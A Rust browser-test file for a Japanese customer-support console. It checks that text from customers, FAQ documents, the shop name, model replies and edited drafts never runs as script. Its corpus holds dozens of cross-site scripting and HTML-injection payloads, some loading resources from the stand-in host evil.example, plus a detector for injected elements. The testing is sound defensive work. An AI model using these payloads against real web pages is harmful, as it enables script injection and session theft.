//! Words that want to run: in what customers write, in references, records, documents, the shop's name, what a model says and
//! what is sent. None of them becomes an element, asks for anything, or runs.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::{
    support::{
        TestServer,
        browser::Browser,
        driver::{Driver, skipped},
        hasty,
        model::{ScriptedServer, Turn},
    },
    tour::cited,
};

/// `RUN` is code that a test would notice, `NO` the number of the line.
const CORPUS: &[&str] = &[
    "<script>RUN</script>",
    "<script src=//evil.example/NO.js></script>",
    "<img src=x onerror=RUN data-pwn>",
    "<img src=\"https://evil.example/NO.png\" data-pwn>",
    "<svg onload=RUN data-pwn></svg>",
    "<svg><script data-pwn>RUN</script></svg>",
    "<svg><a xlink:href=\"javascript:RUN\" data-pwn><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zy8+#x\" data-pwn></use></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s data-pwn></svg>",
    "\"><script>RUN</script>",
    "'><img src=x onerror='RUN' data-pwn>",
    "\" autofocus onfocus=\"RUN\" data-pwn=\"",
    "' autofocus onfocus='RUN' data-pwn='",
    "</textarea><script>RUN</script>",
    "</title><script>RUN</script>",
    "</style><script>RUN</script>",
    "--><script>RUN</script><!--",
    "]]><script>RUN</script>",
    "<iframe src=\"javascript:RUN\" data-pwn></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\" data-pwn></iframe>",
    "<object data=\"https://evil.example/NO.swf\" data-pwn></object>",
    "<embed src=\"https://evil.example/NO\" data-pwn>",
    "<link rel=stylesheet href=\"https://evil.example/NO.css\" data-pwn>",
    "<link rel=prefetch href=\"https://evil.example/NO\" data-pwn>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/NO\" data-pwn>",
    "<base href=\"https://evil.example/NO/\" data-pwn>",
    "<style data-pwn>@import 'https://evil.example/NO.css'; body{background:url(https://evil.example/NO)}</style>",
    "<form action=\"https://evil.example/NO\" data-pwn><button formaction=\"javascript:RUN\" data-pwn>押す</button></form>",
    "<a href=\"javascript:RUN\" data-pwn>押す</a>",
    "[押す](javascript:RUN)",
    "![絵](https://evil.example/NO.png)",
    "<details open ontoggle=RUN data-pwn>",
    "<video><source onerror=RUN data-pwn></video>",
    "<audio src=x onerror=RUN data-pwn>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN data-pwn>",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN data-pwn>\"></noscript>",
    "{{constructor.constructor('RUN')()}}",
    "{% raw %}<script>RUN</script>{% endraw %}",
    "${RUN}`${RUN}`",
    "&lt;script&gt;RUN&lt;/script&gt;&#x3C;script>RUN&#x3C;/script>",
    "%3Cscript%3ERUN%3C/script%3E",
    "\u{ff1c}script\u{ff1e}RUN\u{ff1c}/script\u{ff1e}",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<ScRiPt\n>RUN</sCrIpT\n>",
    "<body onload=RUN data-pwn>",
    "<x data-pwn contenteditable onblur=RUN autofocus>",
];

/// What is on a page that was not written by us.
const STRANGE: &str = "const ours = ['/assets/htmx/htmx.min.js', '/assets/htmx/hx-sse.min.js', '/assets/js/console.js', '/assets/console.css', '/assets/icon.svg'];
    const strange = [...document.querySelectorAll('*')].filter((at) => at.hasAttribute('data-pwn')
        || [...at.attributes].some((it) => it.name.startsWith('on') || /^\\s*javascript:/i.test(it.value) && it.name !== 'value')
        || ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'STYLE', 'VIDEO', 'AUDIO', 'MATH', 'X', 'IMG'].includes(at.tagName.toUpperCase())
        || ['SCRIPT', 'LINK'].includes(at.tagName.toUpperCase()) && !ours.includes(at.getAttribute('src') ?? at.getAttribute('href'))
        || at.tagName === 'META' && at.hasAttribute('http-equiv'));
    return { ran: window.pwned ?? null, strange: strange.map((at) => at.outerHTML.slice(0, 160)),
        words: Object.fromEntries(['.case-head', '.talk', '.draft', '.evidence', '.rail'].map((it) => [it, document.querySelector(it)?.textContent ?? ''])) };";

fn line(number: usize) -> String {
    let code = "window.pwned=NO,alert(NO)";
    format!("〔{number}〕{}", CORPUS[number].replace("RUN", code).replace("NO", &number.to_string()))
}

/// Opens a page, sees that nothing ran, and gives the words of its parts.
async fn read(page: &Browser, path: &str) -> Value {
    page.open(path).await;
    assert!(!page.has_dialog().await, "a dialog on {path}");
    // A moment for what loads late.
    page.awaited("await new Promise((go) => setTimeout(go, 60)); return {}").await;
    let found = page.eval(STRANGE).await;
    assert_eq!((&found["ran"], &found["strange"]), (&Value::Null, &json!([])), "{path}");
    assert_eq!(page.troubles().await, [""; 0], "{path}");
    found["words"].clone()
}

/// A shop named and stocked by somebody hostile, with a document for each line.
async fn shop() -> (ScriptedServer, TestServer) {
    let model = ScriptedServer::answering("はい。").await;
    let all: Vec<String> = (0..CORPUS.len()).map(|number| line(number).replace('\n', " ")).collect();
    let settings = hasty(&model.base());
    let server = TestServer::empty(|settings_of| settings_of.models.default = Some(settings)).await;
    server.open_small(&all[0]).await;
    let faq = |(number, words): (usize, &String)| {
        let title: String = format!("品番{number:02}Xを返品できますか。{words}").chars().take(300).collect();
        let answer = format!("返品は、商品の到着後7日以内に承ります。\n{words}");
        let url = format!("https://small.example/{number}");
        json!({"key": format!("key-{number}"), "title": title, "answer": answer, "note": words, "url": url}).to_string()
    };
    let files: Vec<String> = all.iter().enumerate().map(faq).collect();
    let guide = json!({
        "version": 2, "brand": {"id": "small", "name": all[0]},
        "rules": {"ng_word": {"clause": all[1], "words": [{"any": ["クレーム"], "use": [all[2]]}]}},
    });
    server.ingest(&[("faq/all.jsonl", &files.join("\n")), ("guide.yaml", &guide.to_string())]).await;
    (model, server)
}

#[tokio::test]
async fn nothing_that_people_or_models_write_runs_or_asks_for_anything() {
    let Some(driver) = Driver::start("nothing_that_people_or_models_write_runs_or_asks_for_anything") else { return };
    let (model, server) = shop().await;
    let (page, client) = (driver.browser(server.base()).await, server.local());
    let (mut by_model, mut in_documents) = (BTreeSet::new(), BTreeSet::new());
    let has = |words: &Value, part: &str, sought: &str| words[part].as_str().unwrap().contains(sought);
    for number in 0..CORPUS.len() {
        let words = line(number);
        // References hold one line.
        let short: String = words.replace('\n', " ").chars().take(200).collect();
        let question = format!("{words}\n品番{number:02}Xを返品できますか。{words}");
        let record = json!({"name": words.replace('\n', " "), "value": words, "source": words});
        let asked = json!({
            "workspace": "small", "channel": "email", "text": question, "customer": short, "order": short, "records": [record],
        });
        let said = format!(
            "返品は、商品の到着後7日以内に承ります。[{{到着後7日以内}}]\n{}という文字を、お客様の画面に出ているままの形で\
             お知らせくださいましたので、担当の者と一緒に確かめております。\nどうぞよろしくお願いいたします。",
            words.replace('\n', " ")
        );
        model.reply_with(move |body| Turn::says(&cited(&said, body)));
        let made = client.post("/v1/inquiries", &asked).await;
        assert_eq!(made.status, 201, "{words}: {}", made.text);
        let path = format!("/w/small/inquiries/{}", made.json["inquiry"].as_str().unwrap());
        let shown = read(&page, &path).await;
        assert!(has(&shown, ".talk", &words), "what the customer wrote is shown as it is: {shown}");
        assert!(has(&shown, ".rail", &line(0)), "so is the shop's name");
        by_model.extend(
            (made.json["draft"]["fallback"].is_null() && has(&shown, ".draft", &format!("〔{number}〕")))
                .then_some(number),
        );
        in_documents
            .extend((0..CORPUS.len()).filter(|number| has(&shown, ".evidence", &line(*number).replace('\n', " "))));
        // What somebody writes over it and sends, and the page that shows it with its difference.
        read(&page, &format!("{path}?edit=1")).await;
        let draft = made.json["draft"]["id"].as_str().unwrap_or_else(|| panic!("{}", made.text));
        let decision = json!({"action": "edit", "text": format!("{words}\n{words}"), "reason": words});
        let decided = client.post(&format!("/v1/drafts/{draft}/decision"), &decision).await;
        assert_eq!(decided.status, 201, "{}", decided.text);
        let sent = read(&page, &path).await;
        assert!(has(&sent, ".draft", words.split('\n').next().unwrap()), "what was sent is shown as it is: {sent}");
    }
    let all: BTreeSet<usize> = (0..CORPUS.len()).collect();
    assert_eq!((&by_model, &in_documents), (&all, &all));
    for view in ["open", "answered"] {
        read(&page, &format!("/w/small/inbox?view={view}")).await;
    }
    for number in all {
        let asked: String = line(number).bytes().map(|byte| format!("%{byte:02x}")).collect();
        read(&page, &format!("/w/small/inbox?view={asked}&situation={asked}&behind={asked}")).await;
        read(&page, &format!("/w/{asked}/inbox")).await;
        read(&page, &format!("/w/small/knowledge/search?q={asked}")).await;
    }
    for place in ["home", "qa", "qa/trends", "qa/mine", "knowledge", "knowledge/overlaps", "audit", "people"] {
        read(&page, &format!("/w/small/{place}")).await;
    }
}

#[tokio::test]
async fn nor_does_what_qa_those_who_keep_the_knowledge_and_auditors_read() {
    const NAME: &str = "nor_does_what_qa_those_who_keep_the_knowledge_and_auditors_read";
    let Some(driver) = Driver::start(NAME) else { return skipped(NAME) };
    let (_model, server) = shop().await;
    let (page, client) = (driver.browser(server.base()).await, server.local());
    for number in (0..CORPUS.len()).step_by(4) {
        let words = line(number);
        let short: String = words.replace('\n', " ").chars().take(200).collect();
        let question = format!("{words}\n品番{number:02}Xを返品できますか。{words}");
        let asked = json!({"workspace": "small", "channel": "email", "text": question, "customer": short});
        let made = client.post("/v1/inquiries", &asked).await.json;
        let (inquiry, draft) = (made["inquiry"].as_str().unwrap(), made["draft"]["id"].as_str().unwrap());
        let text = format!("{words}\nクレームの件です。{words}");
        let decision =
            json!({"action": "edit", "text": text, "reason": words, "author": short, "team": short, "vendor": short});
        let decided = client.post(&format!("/v1/drafts/{draft}/decision"), &decision).await;
        assert_eq!(decided.status, 201, "{}", decided.text);
        let finding = decided.json["reply"]["findings"][0]["id"].as_str().expect("the guide has something to say");
        let pages = [
            format!("qa/findings/{finding}"),
            format!("audit/drafts/{draft}"),
            format!("audit/drafts/{draft}?replay=1"),
            format!("inquiries/{inquiry}/trail"),
            format!("knowledge/document?key=key-{number}"),
            format!("knowledge/edit?key=key-{number}"),
            format!("knowledge/relied?key=key-{number}"),
        ];
        for path in pages {
            read(&page, &format!("/w/small/{path}")).await;
        }
    }
    for place in ["home", "qa", "qa/trends", "qa/samples", "qa/disputes", "qa/mine", "audit"] {
        read(&page, &format!("/w/small/{place}")).await;
    }
}

/// The sieve of the test above would notice.
#[tokio::test]
async fn what_does_run_is_noticed() {
    const NAME: &str = "what_does_run_is_noticed";
    let Some(driver) = Driver::start(NAME) else { return skipped(NAME) };
    let server = TestServer::empty(|_| {}).await;
    let page = driver.browser(server.base()).await;
    page.open("/").await;
    page.run("document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.example/a.png\" data-pwn onerror=\"window.pwned=1\">')").await;
    let found = page.eval(STRANGE).await;
    assert_eq!(found["strange"].as_array().unwrap().len(), 1);
    let troubles = page.troubles().await;
    assert!(troubles.iter().any(|it| it.contains("Content Security Policy")), "{troubles:?}");
    page.open("/").await;
    page.run("setTimeout(() => alert(1))").await;
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    assert!(page.has_dialog().await);
}
